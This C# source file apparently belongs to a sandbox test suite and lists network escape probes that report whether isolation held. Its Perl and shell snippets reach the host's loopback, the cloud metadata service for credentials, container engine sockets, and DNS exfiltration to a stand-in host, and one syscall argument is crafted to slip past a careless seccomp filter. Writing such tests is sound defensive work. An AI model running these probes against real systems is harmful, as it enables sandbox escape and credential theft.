using PocketCoder.Sandboxes.Seccomp;
using static PocketCoder.Sandboxes.AttackKinds;

namespace PocketCoder.Sandboxes;

/// <summary>Against the network and sockets.</summary>
internal static class NetworkAttacks
{
    public static readonly Attack[] All =
    [
        Script("host-service", "Connect to a service on the host's loopback", "a network of its own", """
            command -v perl > /dev/null || exit
            perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0) or die; print connect(S, sockaddr_in($ENV{T_PORT}, inet_aton("127.0.0.1"))) ? "BROKEN\n" : "HELD $!\n";'
            """),
        Script("abstract-socket", "Connect to an abstract Unix socket of the host", "a network of its own", """
            command -v perl > /dev/null || exit
            perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die; print connect(S, pack("Sa*", AF_UNIX, "\0".$ENV{T_ABSTRACT})) ? "BROKEN\n" : "HELD $!\n";'
            """),
        Script("see-sockets", "See the host's sockets and interfaces", "a network of its own", """
            if grep -q "$T_CANARY" /proc/net/unix 2> /dev/null; then echo BROKEN sockets; fi
            n=0; while IFS= read -r l; do case $l in *:*) case $l in *lo:*) ;; *) echo BROKEN $l ;; esac ;; esac; done < /proc/net/dev
            echo HELD
            """),
        Script("metadata", "Ask the cloud's metadata service for credentials", "no route", """
            command -v perl > /dev/null || exit
            perl -MSocket -e '$SIG{ALRM} = sub { print "BROKEN no answer, but a route\n"; exit }; alarm 3; socket(S, PF_INET, SOCK_STREAM, 0) or die; print connect(S, sockaddr_in(80, inet_aton("169.254.169.254"))) ? "BROKEN\n" : "HELD $!\n";'
            """) with { ReachesOut = true },
        Script("names", "Send data out in a DNS query", "no resolver", """
            if timeout 5 getent hosts "attack-$T_CANARY.example" > /dev/null 2>&1; then echo BROKEN; fi
            if grep -q '^nameserver' /etc/resolv.conf 2> /dev/null; then echo BROKEN resolver; fi
            echo HELD
            """) with { ReachesOut = true },
        Script("engine-sockets", "Find the sockets of container engines, init and desktop", "they are not there", """
            for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock /run/systemd/private /run/dbus/system_bus_socket /run/snapd.socket; do
                if [ -e $s ]; then echo BROKEN $s; fi
            done
            echo HELD
            """),
        Call("vsock", "Talk to the hypervisor (AF_VSOCK)", SystemCalls.Socket, ", 40, 1, 0", NoSuchFamily),
        Call("packets", "Read raw packets (AF_PACKET)", SystemCalls.Socket, ", 17, 3, 0", NoSuchFamily, NotPermitted),
        Call("kernel-crypto", "Use the kernel's cryptography sockets (AF_ALG)", SystemCalls.Socket, ", 38, 5, 0", NoSuchFamily),
        Call("multipath-tcp", "Bypass TCP rules with Multipath TCP", SystemCalls.Socket, ", 2, 1, 262", SeccompFilter.NoSuchProtocol),
        Call("multipath-tcp-ipv6", "The same over IPv6, with extra bits that fool a careless filter", SystemCalls.Socket,
            ", 10, 0x80001, 0x100000106", SeccompFilter.NoSuchProtocol),
        Call("sequenced-packets", "Bypass TCP rules with SCTP", SystemCalls.Socket, ", 2, 5, 0", SeccompFilter.NoSuchType),
        Call("netfilter", "Use netlink beyond routes (netfilter)", SystemCalls.Socket, ", 16, 3, 12", SeccompFilter.NoSuchProtocol),
    ];
}
